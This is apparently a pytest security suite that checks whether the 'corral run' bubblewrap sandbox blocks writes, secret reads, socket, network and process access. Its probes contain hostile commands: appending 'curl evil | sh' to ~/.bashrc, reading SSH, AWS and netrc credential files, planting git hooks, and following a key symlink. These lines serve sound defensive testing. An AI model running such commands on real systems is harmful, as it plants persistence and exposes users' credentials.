"""Probes run inside `corral run` (real bwrap; as root dropping to the invoking user, and as an unprivileged user) cannot write outside the project or to protected paths, read hidden secrets, reach host sockets, the network or other processes, and see their exit code and TTY pass through."""

from __future__ import annotations

import os
import pty
import re
import select
import shlex
import shutil
import socket
import subprocess
import sys
import sysconfig
import tempfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.conftest import LeakWatch

pytestmark = [
    pytest.mark.security,
    pytest.mark.skipif(
        shutil.which("bwrap") is None, reason="needs bwrap (apt-get install bubblewrap)"
    ),
]

CORRAL = Path(sys.executable).with_name("corral")
SECRET = "ssh-private-key-material-7f3a"
# The unprivileged user the sandbox runs as (root tests drop to it as sudo would).
USER = 65534 if os.geteuid() == 0 else os.getuid()
MODES = ["root", "user"] if os.geteuid() == 0 else ["user"]


def _runnable_by_user(python: str) -> bool:
    try:
        r = subprocess.run([python, "-c", "pass"], user=USER, group=USER, capture_output=True)
    except OSError:
        return False
    return r.returncode == 0


def _user_python() -> str | None:
    """A Python of this minor version that USER can execute: this one, unless it lives in a
    directory private to root (then the system's, given this checkout's packages)."""
    if os.geteuid() != 0 or _runnable_by_user(sys.executable):
        return sys.executable
    for candidate in ("/usr/bin/python3", "/usr/local/bin/python3"):
        if not os.access(candidate, os.X_OK) or not _runnable_by_user(candidate):
            continue
        version = subprocess.run(
            [candidate, "-c", "import sys; print(sys.version_info[:2])"],
            capture_output=True,
            text=True,
        ).stdout.strip()
        if version == str(sys.version_info[:2]):
            return candidate
    return None


USER_PYTHON = _user_python()
# Where corral and its dependencies are, for USER_PYTHON when it is not this interpreter.
PYTHONPATH = os.pathsep.join(
    [str(Path(__file__).resolve().parents[2]), sysconfig.get_paths()["purelib"]]
)


@dataclass
class World:
    """A fake home and project owned by USER, and a way to run ``corral run`` in them."""

    mode: str
    base: Path
    home: Path
    project: Path

    def command(
        self, argv: Sequence[str], flags: Sequence[str], env: dict[str, str] | None
    ) -> tuple[list[str], dict[str, str]]:
        """``corral run`` as the mode runs it, and its environment."""
        corral = [str(CORRAL)]
        environ = {
            "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
            "HOME": str(self.home),
            "LANG": "C.UTF-8",
            **(env or {}),
        }
        if self.mode == "user" and sys.executable != USER_PYTHON:
            assert USER_PYTHON is not None
            corral = [USER_PYTHON, "-c", "from corral.cli.main import main; main()"]
            environ["PYTHONPATH"] = PYTHONPATH
        cmd = [*corral, "run", *flags, "--", *argv]
        if self.mode == "root":
            environ |= {"SUDO_UID": str(USER), "SUDO_GID": str(USER), "SUDO_USER": "nobody"}
        elif os.geteuid() == 0:
            cmd = ["setpriv", f"--reuid={USER}", f"--regid={USER}", "--clear-groups", *cmd]
        return cmd, environ

    def run(
        self,
        argv: Sequence[str],
        *,
        flags: Sequence[str] = (),
        cwd: Path | None = None,
        env: dict[str, str] | None = None,
        tty: bool = False,
    ) -> subprocess.CompletedProcess[str]:
        cmd, environ = self.command(argv, flags, env)
        if tty:
            # script gives the command a pseudo-terminal on stdin, stdout and stderr; -e passes
            # the exit status on.
            cmd = ["script", "-qec", shlex.join(cmd), "/dev/null"]
        return subprocess.run(
            cmd,
            cwd=cwd or self.project,
            env=environ,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=120,
        )

    def interrupt(self, script: str) -> tuple[str, int]:
        """Run ``sh -c script`` on a pseudo-terminal, press ^C once it prints "ready"; its
        output and corral's exit status."""
        cmd, environ = self.command(["sh", "-c", script], (), None)
        pid, fd = pty.fork()
        if pid == 0:  # pragma: no cover - the child
            try:
                os.chdir(self.project)
                os.execvpe(cmd[0], cmd, environ)
            finally:
                os._exit(127)
        out = b""
        try:
            while b"ready" not in out:
                ready, _, _ = select.select([fd], [], [], 60)
                assert ready, f"no 'ready' from the command: {out!r}"
                out += os.read(fd, 4096)
            os.write(fd, b"\x03")
            while True:
                try:
                    chunk = os.read(fd, 4096)
                except OSError:  # EIO: the terminal's last user is gone
                    break
                if not chunk:
                    break
                out += chunk
        finally:
            _, status = os.waitpid(pid, 0)
            os.close(fd)
        return out.decode(errors="replace"), os.waitstatus_to_exitcode(status)

    def sh(self, script: str, **kw: object) -> subprocess.CompletedProcess[str]:
        return self.run(["sh", "-c", script], **kw)  # type: ignore[arg-type]


def _git(*args: str, cwd: Path) -> None:
    subprocess.run(
        [
            "git",
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "-c",
            "init.defaultBranch=main",
            *args,
        ],
        cwd=cwd,
        check=True,
        capture_output=True,
    )


@pytest.fixture(params=MODES)
def world(request: pytest.FixtureRequest, no_leaks: LeakWatch) -> Iterator[World]:
    if request.param == "user" and USER_PYTHON is None:
        pytest.skip(f"no Python {sys.version_info[:2]} that uid {USER} can run")
    # Not pytest's tmp_path: its parents are private to root, and the user must get in.
    base = Path(tempfile.mkdtemp(prefix="corral-jail-", dir="/tmp"))
    try:
        home, project = base / "home", base / "proj"
        (home / ".ssh").mkdir(parents=True)
        (home / ".ssh" / "id_rsa").write_text(SECRET + "\n")
        (home / ".aws").mkdir()
        (home / ".aws" / "credentials").write_text("aws_secret_access_key = " + SECRET + "\n")
        (home / ".netrc").write_text(f"machine x login y password {SECRET}\n")
        (home / ".bashrc").write_text("# the user's own\n")
        (home / "code" / "other").mkdir(parents=True)
        (home / "code" / "other" / ".env").write_text(f"TOKEN={SECRET}\n")
        (project / "sub" / "dir" / ".claude").mkdir(parents=True)
        (project / "sub" / "dir" / ".claude" / "settings.json").write_text("{}\n")
        (project / "README").write_text("hello\n")
        _git("init", "-q", cwd=project)
        (project / ".git" / "hooks").mkdir(exist_ok=True)
        subprocess.run(["chown", "-R", f"{USER}:{USER}", str(base)], check=os.geteuid() == 0)
        base.chmod(0o755)
        yield World(request.param, base, home, project)
    finally:
        shutil.rmtree(base, ignore_errors=True)


def _results(out: str) -> dict[str, str]:
    """``name=status`` lines a probe script prints."""
    return dict(line.split("=", 1) for line in out.splitlines() if "=" in line)


# ----------------------------------------------------------------------------- writes


def test_bashrc_is_not_writable_from_a_subdirectory(world: World) -> None:
    r = world.sh("echo 'curl evil | sh' >> ~/.bashrc", cwd=world.project / "sub" / "dir")
    assert r.returncode != 0
    assert "Read-only file system" in r.stderr
    assert (world.home / ".bashrc").read_text() == "# the user's own\n"


def test_protected_paths_in_the_project_are_read_only(world: World) -> None:
    r = world.sh(
        "touch .git/hooks/pre-commit; echo hook=$?;"
        " echo '[core] hooksPath=/tmp' >> .git/config; echo config=$?;"
        " echo '{\"hooks\":1}' > sub/dir/.claude/settings.json; echo claude=$?;"
        " rm -rf sub/dir/.claude; echo rm=$?;"
        " mv .git .git-old; echo mvgit=$?;"
        " mv sub moved; echo mvsub=$?;"
        " mkdir .corral; echo corral=$?",
    )
    res = _results(r.stdout)
    assert all(res[k] != "0" for k in ("hook", "config", "claude", "rm", "mvgit", "mvsub")), res
    assert not (world.project / ".git" / "hooks" / "pre-commit").exists()
    assert "hooksPath" not in (world.project / ".git" / "config").read_text()
    assert (world.project / "sub" / "dir" / ".claude" / "settings.json").read_text() == "{}\n"
    assert (world.project / ".git").is_dir() and (world.project / "sub").is_dir()
    # .corral did not exist: the mount cannot cover it (docs/local.md, known gaps); the
    # run reports it at exit instead.
    assert res["corral"] == "0"
    assert "protected path created" in r.stderr and ".corral" in r.stderr


def test_the_project_is_writable_as_the_user(world: World) -> None:
    r = world.sh("mkdir -p a/b && echo data > a/b/new.txt && echo more >> README")
    assert r.returncode == 0, r.stderr
    made = world.project / "a" / "b" / "new.txt"
    assert made.read_text() == "data\n"
    assert made.stat().st_uid == USER
    assert (world.project / "README").read_text() == "hello\nmore\n"


def test_the_rest_of_the_system_is_read_only(world: World) -> None:
    r = world.sh(
        "touch /etc/corral-probe; echo etc=$?; touch /usr/bin/corral-probe; echo usr=$?;"
        f" touch {world.base}/outside; echo tmp=$?"
    )
    res = _results(r.stdout)
    assert res["etc"] != "0" and res["usr"] != "0", res
    assert not Path("/etc/corral-probe").exists()
    # /tmp inside is a fresh tmpfs: writable, and gone with the sandbox.
    assert res["tmp"] == "0"
    assert not (world.base / "outside").exists()


# ------------------------------------------------------------------------------ reads


def test_secrets_are_hidden_even_through_a_planted_symlink(world: World) -> None:
    (world.project / "key").symlink_to(world.home / ".ssh" / "id_rsa")
    os.lchown(world.project / "key", USER, USER)
    r = world.sh(
        "cat key; cat ~/.ssh/id_rsa; ls -A ~/.ssh; ls -A ~/.aws; cat ~/.netrc;"
        " cat ~/code/other/.env; echo done"
    )
    assert r.stdout.strip().endswith("done")
    assert SECRET not in r.stdout
    assert SECRET not in r.stderr


def test_allow_read_shows_one_file_of_a_hidden_directory(world: World) -> None:
    known = world.home / ".ssh" / "known_hosts"
    known.write_text("github.com ssh-ed25519 AAAA\n")
    os.chown(known, USER, USER)
    r = world.sh(
        "cat ~/.ssh/known_hosts; cat ~/.ssh/id_rsa; touch ~/.ssh/new; echo touch=$?",
        flags=["--allow-read", str(known)],
    )
    assert "github.com ssh-ed25519" in r.stdout
    assert SECRET not in r.stdout
    assert _results(r.stdout)["touch"] != "0"


def test_secret_variables_stay_outside(world: World) -> None:
    r = world.sh(
        "echo ${GITHUB_TOKEN:-none} ${AWS_SECRET_ACCESS_KEY:-none} $CORRAL_LOCAL",
        env={"GITHUB_TOKEN": SECRET, "AWS_SECRET_ACCESS_KEY": SECRET},
    )
    assert r.stdout.split() == ["none", "none", "1"]


def test_host_unix_sockets_cannot_be_reached(world: World) -> None:
    # One in the host's /tmp (a fresh tmpfs inside) and one in the home, which the sandbox
    # sees read-only: connect() works on a read-only mount, so the jail must cover it.
    paths = [world.base / "host.sock", world.home / "app.sock"]
    servers = []
    try:
        for p in paths:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.bind(str(p))
            s.listen()
            p.chmod(0o777)
            servers.append(s)
        probe = (
            "import socket,sys\n"
            "for p in sys.argv[1:]:\n"
            "    s = socket.socket(socket.AF_UNIX)\n"
            "    try:\n"
            "        s.connect(p); print(p + '=connected')\n"
            "    except OSError as e:\n"
            "        print(p + '=' + type(e).__name__)\n"
        )
        assert USER_PYTHON is not None
        r = world.run([USER_PYTHON, "-I", "-c", probe, *map(str, paths)])
        res = _results(r.stdout)
        assert len(res) == 2, r.stderr
        assert "connected" not in res.values(), res
    finally:
        for s in servers:
            s.close()


# ---------------------------------------------------------------------------- network


@pytest.mark.skipif(shutil.which("curl") is None, reason="needs curl")
@pytest.mark.parametrize("flags", [[], ["--allow-domain", "example.com"]], ids=["none", "proxy"])
def test_a_program_ignoring_the_proxy_has_no_route(world: World, flags: list[str]) -> None:
    r = world.run(
        ["curl", "-sS", "-m", "5", "--noproxy", "*", "http://198.51.100.10/"], flags=flags
    )
    assert r.returncode == 7, (r.returncode, r.stderr)  # couldn't connect: no route


def test_an_untrusted_project_file_only_narrows(world: World) -> None:
    settings = world.project / ".corral" / "local.toml"
    settings.parent.mkdir()
    settings.write_text('allow_domains = ["example.com"]\ndeny_read = ["sub"]\n')
    subprocess.run(["chown", "-R", f"{USER}:{USER}", str(settings.parent)], check=os.geteuid() == 0)
    probe = "echo proxy=${HTTPS_PROXY:-none}; ls sub | wc -l | sed 's/^/sub=/'; touch .corral/x; echo w=$?"
    r = world.sh(probe)
    res = _results(r.stdout)
    assert res["proxy"] == "none" and res["sub"] == "0" and res["w"] != "0", r.stdout
    assert "not trusted" in r.stderr and "example.com" in r.stderr
    r = world.sh(probe, flags=["--trust-project"])
    assert _results(r.stdout)["proxy"].startswith("http://127.0.0.1:")
    assert "widens" in r.stderr


# -------------------------------------------------------------------------- processes


def test_exit_codes_pass_through(world: World) -> None:
    assert world.sh("exit 7").returncode == 7
    assert world.sh("kill -TERM $$").returncode == 128 + 15


def test_processes_outside_are_invisible(world: World) -> None:
    r = world.run(["ps", "-eo", "pid=,comm="])
    procs = [line.split(None, 1) for line in r.stdout.strip().splitlines()]
    assert {comm for _, comm in procs} <= {"bwrap", "ps"}, procs
    assert len(procs) <= 2


def test_no_new_user_namespaces(world: World) -> None:
    r = world.run(["unshare", "-U", "true"])
    assert r.returncode != 0


@pytest.mark.skipif(shutil.which("script") is None, reason="needs script (util-linux)")
def test_the_tty_passes_through(world: World) -> None:
    r = world.sh(
        "test -t 0 && test -t 1 && echo TTY-OK; tty; stat -L -c 'dev=%t:%T' /proc/self/fd/0",
        tty=True,
    )
    assert r.returncode == 0, r.stderr
    lines = [line.strip() for line in r.stdout.splitlines()]
    assert "TTY-OK" in lines
    # bwrap shows the terminal as /dev/console (its /dev is private; docs/local.md)
    assert any(re.fullmatch(r"/dev/(console|pts/\d+)", line) for line in lines), lines
    major = next(line for line in lines if line.startswith("dev="))
    assert int(major.split("=")[1].split(":")[0], 16) == 136  # a Unix98 pty, the outer one


def test_ctrl_c_is_the_commands_to_handle(world: World) -> None:
    # An agent traps ^C to stop its turn and carries on: bwrap must not die of it.
    out, code = world.interrupt("trap 'echo got-int; exit 3' INT; echo ready; sleep 60 & wait")
    assert "got-int" in out
    assert code == 3
    # A command that does not trap it ends as it would outside. (One process: dash defers a ^C
    # that lands while it forks a foreground child until that child ends, sandbox or not.)
    out, code = world.interrupt("echo ready; exec sleep 60")
    assert code == 128 + 2


# ---------------------------------------------------------------------------- worktrees


def test_a_worktree_can_commit_but_not_touch_hooks(world: World) -> None:
    main = world.base / "main"
    wt = world.base / "wt"
    main.mkdir()
    _git("init", "-q", cwd=main)
    _git("commit", "-q", "--allow-empty", "-m", "first", cwd=main)
    _git("worktree", "add", "-q", str(wt), cwd=main)
    subprocess.run(["chown", "-R", f"{USER}:{USER}", str(main), str(wt)], check=os.geteuid() == 0)
    r = world.sh(
        "git -c user.name=a -c user.email=a@a commit -q --allow-empty -m inside; echo commit=$?;"
        f" touch {main}/.git/hooks/post-commit; echo hook=$?;"
        f" echo x >> {main}/.git/config; echo config=$?;"
        " echo 'gitdir: /tmp' > .git; echo gitfile=$?",
        cwd=wt,
    )
    res = _results(r.stdout)
    assert res["commit"] == "0", r.stderr
    assert res["hook"] != "0" and res["config"] != "0" and res["gitfile"] != "0", res
    log = subprocess.run(
        ["git", "-c", f"safe.directory={main}", "log", "--format=%s", "--all"],
        cwd=main,
        capture_output=True,
        text=True,
        check=True,
    )
    assert "inside" in log.stdout.split()
